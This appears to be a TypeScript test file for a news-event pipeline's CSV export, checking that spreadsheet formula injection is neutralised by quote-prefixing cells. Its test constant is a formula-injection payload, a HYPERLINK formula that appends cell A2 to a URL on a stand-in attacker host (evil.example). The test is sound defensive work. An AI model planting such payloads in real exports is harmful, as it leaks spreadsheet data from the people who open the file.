import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Pipeline } from '../src/pipeline.ts';
import { csvField, eventsToCsv } from '../src/export/events.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Ledger")';

test('CSV cells a spreadsheet would run as formulas are neutralised (OWASP)', () => {
  for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
    const cell = csvField(`${lead}1+1`);
    assert.ok(cell.startsWith("'") || cell.startsWith(`"'`), `${JSON.stringify(lead)} → ${JSON.stringify(cell)}`);
  }
  assert.equal(csvField(HOSTILE), `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Ledger"")"`);
  // numbers (coordinates, counts) are data, not formulas
  assert.equal(csvField(-1.68), '-1.68');
  assert.equal(csvField('Goma'), 'Goma');
});

test('a hostile publisher name reaches the events CSV as text, not as a formula', () => {
  const a = new Pipeline().analyze({
    id: 'x',
    source: { published: '2026-03-02', publisher: HOSTILE },
    text: 'Rebels shelled a camp near Goma on Sunday, killing three people, the army said.',
  });
  const csv = eventsToCsv(a);
  assert.ok(a.events.length > 0, 'the sentence reports an event');
  for (const row of csv.split('\r\n').slice(1).filter(Boolean)) {
    assert.doesNotMatch(row, /(^|,)"?=/, row);
    assert.match(row, /"'=HYPERLINK/);
  }
});
